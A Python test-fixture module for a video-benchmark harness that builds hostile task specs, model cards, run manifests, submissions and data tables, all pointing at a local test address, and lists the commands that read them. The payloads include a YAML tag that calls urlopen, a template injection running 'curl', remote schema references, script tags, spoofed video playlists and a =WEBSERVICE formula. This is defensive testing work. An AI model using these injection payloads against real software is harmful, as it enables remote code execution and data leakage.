"""Files of strangers, each of which would have something connected to an address, and the commands that read them."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SPEC = """\
schema: s3harness/task/v1
name: mine/task_tonic
title: TITLE
item: feature
sampler: {name: SAMPLER, window_s: 30, stride_s: 25, fps: 2}
prompt: >-
  PROMPT
answer:
  parser: PARSER
  key: answer
  schema: SCHEMA
aggregate: any_yes
metrics: [{name: METRIC, primary: true}]
"""
RIGHT = {
    "TITLE": "Tonic stiffening",
    "SAMPLER": "sliding_windows",
    "PROMPT": "{{ feature.question }}",
    "PARSER": "json_answer",
    "SCHEMA": "{properties: {answer: {enum: [yes, no]}}}",
    "METRIC": "feature_macro_f1",
}
CARD = """\
schema: s3harness/model/v1
name: some-model
title: Some model
weights: some/model
revision: abc
family: some
modalities: [video]
licence: MIT
engines: {}
"""
MAPPING = """\
schema: s3harness/mapping/v1
name: ward 7
licence: internal
video: file
patient: patient
diagnosis: {column: diagnosis, values: {epileptic: ES, functional: NES}}
"""


@dataclass(frozen=True)
class Address:
    """A place that listens."""

    host: str
    port: int

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}/x"


@dataclass(frozen=True)
class Materials:
    """Right files, of which the hostile ones are made."""

    data: Path
    run: Path
    submission: Path


Commands = list[list[object]]
Make = Callable[[Path, Address, Materials], Commands]


def _spec(**changes: str) -> Make:
    def make(folder: Path, address: Address, right: Materials) -> Commands:
        text = SPEC
        for name, value in {**RIGHT, **changes}.items():
            text = text.replace(name, value, 1)
        path = folder / "spec.yaml"
        path.write_text(text.replace("URL", address.url))
        run = ["run", "--tasks", path, "--backend", "floors", "--data", right.data, "--out", folder / "run"]
        return [["tasks", "validate", path], ["tasks", "show", path], run]

    return make


def _card(old: str, new: str) -> Make:
    def make(folder: Path, address: Address, right: Materials) -> Commands:
        path = folder / "card.yaml"
        assert old in CARD
        path.write_text(CARD.replace(old, new).replace("URL", address.url))
        run = ["run", "--model", path, "--backend", "floors", "--tasks", "1", "--data", right.data]
        return [["models", "show", path], [*run, "--out", folder / "run"]]

    return make


def _edited(path: Path, change: Callable[[dict], object]) -> None:
    document = json.loads(path.read_text())
    change(document)
    path.write_text(json.dumps(document))


def _run(change: Callable[[Path, Address], None]) -> Make:
    def make(folder: Path, address: Address, right: Materials) -> Commands:
        run = Path(shutil.copytree(right.run, folder / "run"))
        change(run, address)
        read: Commands = [["score", run, "--all"], ["report", run], ["audit", run], ["compare", run, right.run]]
        again = ["run", "--backend", "oracle", "--tasks", "1,3", "--limit", "2", "--data", right.data, "--out", run]
        return [*read, ["submit", "pack", run, "--out", folder / "packed"], [*again, "--resume"]]

    return make


def _submission(change: Callable[[Path, Address], None]) -> Make:
    def make(folder: Path, address: Address, right: Materials) -> Commands:
        packed = Path(shutil.copytree(right.submission, folder / "submissions" / "theirs"))
        change(packed, address)
        build = ["leaderboard", "build", "--submissions", packed.parent, "--data", right.data, "--out", folder / "site"]
        return [["leaderboard", "verify", packed, "--data", right.data], build, ["report", packed]]

    return make


def _schema_of_a_run(folder: Path, address: Address) -> None:
    def change(manifest: dict) -> None:
        for task in manifest["run"]["tasks"].values():
            task["spec"]["answer"]["schema"] = {"$ref": address.url}

    _edited(folder / "manifest.json", change)


def _description(*names: str) -> Callable[[Path, Address], None]:
    """Put the address in the place of a text of the manifest."""

    def change(folder: Path, address: Address) -> None:
        def put(manifest: dict) -> None:
            part = manifest["run"]
            for name in names[:-1]:
                part = part[name]
            part[names[-1]] = address.url

        _edited(folder / "manifest.json", put)

    return change


def _answers(folder: Path, address: Address) -> None:
    html = f"<img src={address.url}><script src='{address.url}'></script> ![x]({address.url})"
    path = folder / "responses.jsonl"
    lines = [json.loads(line) | {"text": html} for line in path.read_text().splitlines()]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))


def _submitter(folder: Path, address: Address) -> None:
    def change(about: dict) -> None:
        about |= {"submitter": address.url, "notes": f"![x]({address.url})"}
        about["model"] = {**about.get("model", {}), "weights": address.url, "link": address.url}

    _edited(folder / "submission.json", change)


def _table(change: Callable[[Path, Address], None]) -> Make:
    def make(folder: Path, address: Address, right: Materials) -> Commands:
        data = Path(shutil.copytree(right.data, folder / "data"))
        change(data, address)
        ask = ["run", "--backend", "kinematics", "--tasks", "1", "--limit", "1", "--data", data]
        return [
            ["data", "validate", data],
            ["data", "info", data],
            ["data", "preview", data, "v0001", "--out", folder / "sheet.png"],
            ["data", "export", data, "--output", folder / "exported"],
            [*ask, "--out", folder / "run", "--cache", folder / "cache"],
        ]

    return make


def _file(value: str) -> Callable[[Path, Address], None]:
    """Name another file in the table."""

    def change(data: Path, address: Address) -> None:
        path = data / "videos.csv"
        text = path.read_text()
        assert "videos/v0001.mp4" in text
        named = value.replace("URL", address.url).replace("HOST", address.host).replace("PORT", str(address.port))
        path.write_text(text.replace("videos/v0001.mp4", named, 1))

    return change


def _video(content: str) -> Callable[[Path, Address], None]:
    """Write a playlist or a script in place of a video."""

    def change(data: Path, address: Address) -> None:
        (data / "videos" / "v0001.mp4").write_text(content.replace("URL", address.url).replace("HOST", address.host))

    return change


def _imported(cell: str = "first.mp4", **changes: str) -> Make:
    def make(folder: Path, address: Address, right: Materials) -> Commands:
        mapping = MAPPING
        for name, value in changes.items():
            mapping = mapping.replace(f"{name}:", f"{name}: {value} #")
        (folder / "mapping.yaml").write_text(mapping.replace("URL", address.url))
        rows = f'file,patient,diagnosis\n"{cell.replace("URL", address.url)}",one,epileptic\n'
        (folder / "table.csv").write_text(rows)
        source = ["data", "import", "table", folder / "table.csv", "--mapping", folder / "mapping.yaml"]
        return [
            [*source, "--videos", right.data / "videos", "--out", folder / "imported"],
            [*source, "--out", folder / "tables"],
        ]

    return make


CALL = '!!python/object/apply:urllib.request.urlopen ["URL"]'
HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:9,\nURL.ts\n#EXT-X-ENDLIST\n"
DASH = '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>URL</BaseURL></Period></MPD>'
SDP = "v=0\no=- 0 0 IN IP4 HOST\nc=IN IP4 HOST\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"

CASES: dict[str, dict[str, Make]] = {
    "spec": {
        "a reference": _spec(SCHEMA='{$ref: "URL"}'),
        "a reference within": _spec(SCHEMA='{properties: {answer: {$ref: "URL#/a"}}}'),
        "a dynamic reference": _spec(SCHEMA='{$dynamicRef: "URL"}'),
        "another base": _spec(SCHEMA='{$id: "URL", $ref: "y.json"}'),
        "another meta-schema": _spec(SCHEMA='{$schema: "URL", type: object}'),
        "a YAML tag": _spec(TITLE=CALL),
        "an included file": _spec(TITLE="!include URL"),
        "a template that includes": _spec(PROMPT='{% include "URL" %}'),
        "a template that imports": _spec(PROMPT='{% import "URL" as x %}'),
        "a template that runs": _spec(PROMPT="{{ cycler.__init__.__globals__.os.popen('curl URL').read() }}"),
        "a sampler": _spec(SAMPLER='"URL"'),
        "a parser": _spec(PARSER='"URL"'),
        "a metric": _spec(METRIC='"URL"'),
    },
    "card": {
        "weights": _card("some/model", "URL"),
        "a revision": _card("abc", "URL"),
        "a licence": _card("MIT", "URL"),
        "a title": _card("Some model", CALL),
        "an engine's options": _card("engines: {}", 'engines: {vllm: {tokenizer: "URL", trust_remote_code: true}}'),
        "a server": _card("engines: {}", 'engines: {openai: {base_url: "URL", url: "URL"}}'),
    },
    "run": {
        "a schema": _run(_schema_of_a_run),
        "the weights": _run(_description("model", "weights")),
        "the data set": _run(_description("dataset", "name")),
        "the backend": _run(_description("backend")),
        "answers": _run(_answers),
    },
    "submission": {
        "a schema": _submission(_schema_of_a_run),
        "the weights": _submission(_description("model", "weights")),
        "the submitter": _submission(_submitter),
        "answers": _submission(_answers),
    },
    "table": {
        "an address as a file": _table(_file("URL.mp4")),
        "a protocol as a file": _table(_file("tcp://HOST:PORT")),
        "a share as a file": _table(_file("//HOST/share/v0001.mp4")),
        "a list of addresses as a file": _table(_file("concat:URL|URL")),
        "an HLS playlist": _table(_video(HLS)),
        "a DASH manifest": _table(_video(DASH)),
        "a concat script": _table(_video("ffconcat version 1.0\nfile 'URL'\n")),
        "a session description": _table(_video(SDP)),
        "an imported file": _imported("URL.mp4"),
        "an imported formula": _imported('=WEBSERVICE(""URL"")'),
        "a mapping": _imported(name=CALL),
        "a licence": _imported(licence='"URL"'),
    },
}
